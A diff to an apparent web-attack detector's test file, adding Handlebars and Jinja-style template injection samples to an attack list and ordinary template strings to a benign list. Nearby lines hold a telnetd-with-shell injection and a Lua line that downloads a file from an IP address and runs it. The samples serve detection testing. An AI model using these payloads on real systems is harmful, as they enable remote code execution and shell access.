@@ -561,6 +561,12 @@ export const ATTACKS: DetectorCase[] = [
     "932100",
   ),
   q("a telnet daemon started with a shell", "$(telnetd -p25 -l/bin/sh)", "932130"),
+  j(
+    "a helper reaching attributes through a subexpression",
+    '{{#with (lookup this "constructor")}}{{/with}}{{x (string.sub.apply 0 codelist)}}',
+    "934170",
+  ),
+  q("a helper given a dunder", "{{ print request.__class__ }}", "934170"),
   q("Lua's way to a shell", 'os.execute("wget -O /tmp/v http://45.95.147.236/vera;sh /tmp/v")', "934155"),
 ];
 
@@ -574,6 +580,16 @@ export const BENIGN: DetectorCase[] = [
   q("OData comparing to the order type OR", "SalesOrderType eq 'OR'"),
   q("sites listed by domain", "google.com,flipkart.co.in,bbc.co.uk"),
   { name: "a client library naming its runtime", where: "ua", value: "sendgrid/8.1.1;nodejs", hit: [] },
+  j(
+    "a Handlebars helper with plain arguments",
+    'Renews on {{formatDate renewalDate "MMMM D, YYYY"}} for {{currency invoice.total "USD"}}',
+  ),
+  j("a Go template's printf", 'Memory at {{ printf "%.2f" $value }} on {{ $labels.instance }}'),
+  j("a Marketo token with a default", "{{lead.First Name:default=Hey}}, your weekend starts here"),
+  j(
+    "Magento's CMS directives",
+    '<img src="{{media url="wysiwyg/banners/spring.jpg"}}"/>{{widget type="Magento\\CatalogWidget\\Block\\Product\\ProductsList" products_count="8"}}',
+  ),
   q(
     "a quoted phrase, a group and a field's group",
     '"qualified immunity" AND ("§ 1983" OR "42 U.S.C. 1983") AND court_id:(ca5 OR ca9)',
